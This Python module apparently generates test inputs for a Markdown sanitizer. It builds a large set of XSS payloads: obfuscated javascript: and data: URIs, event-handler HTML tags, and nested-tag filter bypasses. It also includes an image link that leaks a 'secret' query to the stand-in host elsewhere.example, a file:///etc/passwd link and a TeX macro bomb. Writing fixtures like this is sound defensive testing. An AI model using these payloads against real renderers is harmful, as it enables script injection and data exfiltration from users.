"""Markdown that wants more than to be read: scripts, foreign requests, and ways around filters."""

from __future__ import annotations

from itertools import product

#: What a script would do, if one ran.
CALL = "window.pwned=1"
ELSEWHERE = "https://elsewhere.example"

_SCHEMES = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java&#10;script:{CALL}",
    f"&#106;avascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript&#x3A;{CALL}",
    f"\x01javascript:{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=window.pwned=1>",
    "file:///etc/passwd",
    "blob:null/x",
    f"view-source:javascript:{CALL}",
    f"feed:javascript:{CALL}",
    f"//elsewhere.example/{CALL}",
)
_LINKS = (
    "[x]({0})",
    "[x](<{0}>)",
    '[x]({0} "title")',
    "![x]({0})",
    "[![x]({0})]({0})",
    "<{0}>",
    "[x][r]\n\n[r]: {0}",
    "[x]: <{0}>\n\n[x]",
    '<a href="{0}">x</a>',
    '<img src="{0}">',
    "| [x]({0}) |\n|---|",
    "- [ ] [x]({0})",
    "$\\href{{{0}}}{{x}}$",
)
_ELEMENTS = (
    "<script>{0}</script>",
    "<script src={1}/x.js></script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<img src=x onerror={0}>",
    "<img src=x onerror='{0}'//",
    '<img src="{1}/x.png">',
    "<img srcset='{1}/x.png 1x'>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={0}>#x'/></svg>",
    "<math><mtext></p><img src=x onerror={0}></mtext></math>",
    "<iframe src={1}></iframe>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<object data={1}></object>",
    "<embed src={1}>",
    "<video><source onerror={0} src=x></video>",
    "<audio src={1}/x.mp3 autoplay></audio>",
    "<video poster={1}/x.png></video>",
    "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>",
    "<body onload={0}>",
    "<form action={1}><button>x</button></form>",
    "<button formaction=javascript:{0}>x</button>",
    "<meta http-equiv=refresh content='0;url={1}'>",
    "<base href={1}/>",
    "<link rel=stylesheet href={1}/x.css>",
    "<link rel=prefetch href={1}/x>",
    "<style>@import '{1}/x.css';</style>",
    "<style>body{{background:url({1}/x.png)}}</style>",
    "<p style='background:url({1}/x.png)'>x</p>",
    "<table background={1}/x.png><tr><td>x</table>",
    "<marquee onstart={0}>x</marquee>",
    "<isindex type=image src=1 onerror={0}>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<a href=x onclick={0} autofocus onfocus={0}>x</a>",
    "<a ping={1} href=/>x</a>",
    "<portal src={1}></portal>",
    "<x onclick={0} contenteditable autofocus onfocus={0}>x</x>",
    "<!--><script>{0}</script>-->",
    "<![CDATA[<script>{0}</script>]]>",
    "<?xml version='1.0'?><script>{0}</script>",
)
_AROUND = ("{0}", "**{0}**", "> {0}", "- {0}", "# {0}", "`` ` `` {0}")
_OTHERS = (
    f"![exfiltrate]({ELSEWHERE}/?q=secret)",
    f"![a]({ELSEWHERE}/a.png) ![b](//elsewhere.example/b.png)",
    f"[![click]({ELSEWHERE}/x.png)]({ELSEWHERE})",
    f"[text]({ELSEWHERE}/?q=[nested](javascript:{CALL}))",
    f"```html\n<script>{CALL}</script>\n```",
    f"```\n</code></pre><script>{CALL}</script>",
    f"~~~<img src=x onerror={CALL}>\nx\n~~~",
    f"$$\\htmlData{{x={CALL}}}{{a}}\\includegraphics{{{ELSEWHERE}/x.png}}$$",
    f"$\\url{{javascript:{CALL}}}$",
    "$\\def\\a{\\a\\a}\\a$",
    f"[^1]\n\n[^1]: <script>{CALL}</script>",
    "[__proto__]: x\n\n[__proto__] [constructor]",
    '<a id="root"></a><form id=x><input name=attributes></form>',
    f"<img name=cookie src=x onerror={CALL}>",
    f"www.elsewhere.example/<script>{CALL}</script>",
    f"a@elsewhere.example<img src=x onerror={CALL}>",
)


def payloads() -> list[str]:
    """Return all of them; none holds a blank line that another would fall into."""
    links = [form.format(scheme) for form, scheme in product(_LINKS, _SCHEMES)]
    elements = [
        around.format(element.format(CALL, ELSEWHERE))
        for element, around in product(_ELEMENTS, _AROUND)
    ]
    return [*links, *elements, *_OTHERS]
